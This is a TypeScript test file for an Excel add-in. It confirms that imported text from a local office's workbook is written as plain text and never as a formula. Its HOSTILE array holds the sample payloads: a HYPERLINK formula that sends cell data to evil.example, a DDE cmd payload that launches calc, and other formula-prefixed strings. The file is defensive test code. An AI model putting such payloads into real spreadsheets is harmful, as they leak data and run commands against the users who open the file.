/**
 * The add-in writes through Office.js `formulas` arrays, where a string beginning with `=` is a
 * formula: text typed in a local office's file (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`) must land
 * in the province's sheet as text, never as a formula (checked against the fake Excel of
 * tests/addin, which, like Excel, turns `=…` input into a formula).
 */
import { parsePeriod } from '../../core/periods';
import { looksLikeFormula } from '../../core/safe-text';
import { judgeWorkbookFile } from '../../core/xlsx';
import { ExcelAdapter } from '../../addin/excel/adapter';
import { createOrRefresh, importFiles } from '../../addin/workflows';
import { FakeWorkbook, fakeRun } from '../addin/fake-excel';
import { syntheticReference } from '../addin/helpers';
import { localOfficeWorkbook } from './local-office';

const H1 = parsePeriod('2026-H1');
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&C4,"xem")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];

test('text from an imported local office file is written as text, not as a formula', async () => {
  const ref = syntheticReference(3);
  const book = new FakeWorkbook();
  book.addSheet('Trang tính1');
  const adapter = new ExcelAdapter(fakeRun(book));
  await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });

  // Local office 51001's own report, four of its figures hostile text.
  const data = await localOfficeWorkbook(ref.registry, '51001', H1, (values) => values.map((v, i) => HOSTILE[i] ?? v));
  const [outcome] = await importFiles(adapter, ref, [{ name: '51001.xlsx', data }], judgeWorkbookFile);
  expect(outcome.imported).toBe(true);

  // Row 11 is 51001's (row 10 the provincial office): D11…G11 received the text.
  for (const [i, address] of ['D11', 'E11', 'F11', 'G11'].entries()) {
    const cell = book.cell('Mẫu 03', address);
    expect([address, cell.formula]).toEqual([address, null]);
    expect(String(cell.value)).toContain(HOSTILE[i]);
  }
  // And nothing else in the sheet is a formula but the template's own.
  const formulas = [...book.sheet('Mẫu 03').cells.values()].map((c) => c.formula).filter((f): f is string => f !== null);
  expect(formulas.filter((f) => !/^=(SUM|IF)\(/.test(f))).toEqual([]);
  expect(HOSTILE.every(looksLikeFormula)).toBe(true);
});
